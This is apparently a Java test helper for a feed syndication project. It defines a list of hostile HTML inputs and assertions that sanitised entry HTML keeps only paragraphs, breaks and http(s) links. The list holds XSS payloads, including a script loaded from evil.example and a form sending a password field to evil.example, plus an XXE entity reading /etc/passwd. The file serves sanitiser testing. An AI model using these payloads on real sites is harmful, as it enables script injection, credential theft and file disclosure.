package org.chorusfeed.syndication;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.assertj.core.api.SoftAssertions;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/** Checks that entry HTML, parsed as a browser would, is text only plus paragraphs, breaks and web links. */
final class Markup {
    private static final Set<String> ALLOWED_ELEMENTS = Set.of("p", "br", "a");

    /**
     * Hostile post texts written for Chorus: tags, event handlers, script URLs, entity and control-character
     * tricks, broken markup, CDATA and XML look-alikes, and text that only looks like an escape.
     */
    static final List<String> XSS = List.of(
            "<script>alert('chorus')</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
            "<a href=\"&#106;avascript:alert(1)\">entity</a>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
            "\"><script>alert(document.domain)</script>",
            "'><body onload=alert(1)>",
            "<p style=\"background:url(javascript:alert(1))\">styled</p>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<![CDATA[<script>alert(1)</script>]]>",
            "]]><script>alert(1)</script><![CDATA[",
            "<!-- --><script>alert(1)</script> -->",
            "&lt;script&gt;alert(1)&lt;/script&gt; is how you write it",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "line one\n<b onmouseover=alert(1)>line two</b>\r\nline three",
            "see https://example.org/\"onmouseover=\"alert(1) and https://example.org/<script>",
            "https://example.org/?q=a&b=<c>&d=\"e\" done",
            "nul\u0000 bell\u0007 vt\u000B ff\u000C fffe\uFFFE ffff\uFFFF lone\uD800 surrogate <script>",
            "<form action=https://evil.example><input name=pw></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">");

    private Markup() {
    }

    /**
     * Asserts that the HTML is text only: no element but {@code p}, {@code br} and {@code a}, no attribute
     * but an {@code a}'s http or https {@code href} and {@code rel}, and that it reads as {@code expectedText}.
     */
    static void assertTextOnly(SoftAssertions softly, String description, String html, String expectedText) {
        softly.assertThat(html.toLowerCase(Locale.ROOT)).as(description).doesNotContain("<script");
        Document document = Jsoup.parseBodyFragment(html);
        for (Element element : document.body().select("*")) {
            if (element == document.body()) {
                continue;
            }
            softly.assertThat(element.normalName()).as(description).isIn(ALLOWED_ELEMENTS);
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                softly.assertThat(name).as(description).doesNotStartWith("on").isIn("href", "rel");
                if (name.equals("href")) {
                    softly.assertThat(attribute.getValue().toLowerCase(Locale.ROOT)).as(description)
                            .startsWith("http").matches("https?://.*").doesNotContain("javascript:");
                }
            }
        }
        softly.assertThat(document.body().wholeText()).as(description).isEqualTo(expectedText);
    }

    /** {@link #assertTextOnly(SoftAssertions, String, String, String)} for one piece of HTML. */
    static void assertTextOnly(String html, String expectedText) {
        SoftAssertions softly = new SoftAssertions();
        assertTextOnly(softly, html, html, expectedText);
        softly.assertAll();
    }
}
